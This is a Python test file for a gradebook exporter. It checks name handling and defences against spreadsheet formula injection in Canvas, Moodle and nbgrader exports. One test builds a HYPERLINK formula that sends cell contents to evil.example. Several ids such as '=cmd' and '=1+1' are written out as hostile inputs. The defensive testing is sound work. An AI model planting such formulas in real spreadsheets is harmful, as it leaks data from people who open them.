"""Scores are matched to the right student, and no name or id acts in a spreadsheet."""

import os

import pytest

from grading.reports.styles import NBGRADER_COLUMNS, Style, is_safe_id, plain

STYLES = [str(style) for style in Style]
NAMES = [
    ("Żółć", "Zoë 数学"),
    ('O\'Neil, the "Great"', "Ann; Bob"),
    ("two\nlines", "a\rb\tc"),
    ("", ""),
]


@pytest.mark.parametrize(("last", "first"), NAMES)
def test_odd_names_come_through(book, last, first):
    book.student("ada", last, first)
    book.grade("ada", "early", 5, 2.5, 2.5)
    row = book.export("nbgrader")[1][1]
    assert row[3:6] == ["ada", last, first] and len(row) == len(NBGRADER_COLUMNS) + 1

    def one_line(text: str) -> str:
        return " ".join(text.split())

    names = [one_line(name) for name in (last, first)]
    row = book.export("canvas")[1][2]
    assert row == [", ".join(filter(None, names)) or "ada", "", "", "ada", "", "10"]
    row = book.export("moodle")[1][1]
    assert row == ["ada", names[1] or "ada", names[0] or "ada", "ada", "10"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\x00="])
@pytest.mark.parametrize("style", STYLES)
def test_names_never_are_formulas(book, style, start):
    if start[0] == "\x00" and "postgresql" in book.api.coursedir.db_url:
        pytest.skip("PostgreSQL takes no such character")
    attack = f'{start}HYPERLINK("http://evil.example?x="&A1,"me")'
    book.student("ada", attack, attack, attack)
    book.grade("ada", "early", 5, 2.5, 2.5)
    rows = book.export(style)[1]
    fields = [field for row in rows[1:] for field in row]
    assert not any(
        field.lstrip("\x00").lstrip()[:1] in set("=+-@\uff1d") - {""} for field in fields
    )
    assert any("HYPERLINK" in field for field in fields), "the name itself is kept"


@pytest.mark.parametrize(
    "odd",
    [
        *("=cmd", "+1", "-ada", "@ada", "a\tb", "a\nb", " ada", "ada ", "", "0", 'a"b', "a\\"),
        *("\u200bada", "\uff1dcmd", "Points Possible"),
    ],
)
def test_odd_ids_are_not_matched(odd):
    assert not is_safe_id(odd)


@pytest.mark.parametrize("good", ["ada", "ada.l@uni.example", "s-1_2", "007", "ünal", "o'neil"])
def test_ordinary_ids_are_matched(good):
    assert is_safe_id(good)


def test_student_with_a_hostile_id_is_left_out_alone(book):
    book.student("ada", "Points Possible", "")
    book.grade("ada", "early", 5, 2.5, 2.5)
    book.grade("=1+1", "early", 5, 2.5, 2.5)
    book.grade("0", "early", 5, None, 2.5)
    done, rows = book.export("canvas")
    assert rows[2:] == [["ada", "", "", "ada", "", "10"]], "no second line with points"
    assert [(one.student, "rename" in one.reason) for one in done.left_out] == [
        ("0", True),
        ("=1+1", True),
    ]
    assert done.scores == 1
    rows = book.export("nbgrader")[1]
    assert sorted(row[3] for row in rows[1:]) == ["'=1+1", "0", "ada"]


def test_backslash_before_a_quote_cannot_swallow_fields_in_php(book):
    book.student("ada", "Lovelace, \\", 'Ada "\\"')
    book.grade("ada", "early", 5, 2.5, 2.5)
    assert b"\\" not in book.export("moodle")[0].path.read_bytes()


def test_every_line_of_moodle_identifies_its_own_student(book):
    book.student("ada", email="ada@uni.example")
    book.student("ben")  # no address: an empty one would be taken for ada's
    book.student("dan", email="=cmd")
    for name in ("ada", "ben", "dan"):
        book.grade(name, "early", 5, 2.5, 2.5)
    assert [(row[0], row[3]) for row in book.export("moodle")[1][1:]] == [
        ("ada", "ada@uni.example"),
        ("ben", "ben"),
        ("dan", "dan"),
    ]


def test_folder_whose_name_is_no_unicode_does_no_harm(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    os.makedirs(os.fsencode(book.root / "submitted") + b"/\xff\xfe/early")
    for style in STYLES:
        assert book.export(style)[0].scores == 1
    assert len(book.export("canvas")[0].left_out) == 1


def test_plain_leaves_ordinary_texts_alone():
    for text in ("Ada", "O'Neil", "a=b", "5 - 3", "", "two\nlines", "数学"):
        assert plain(text) == text
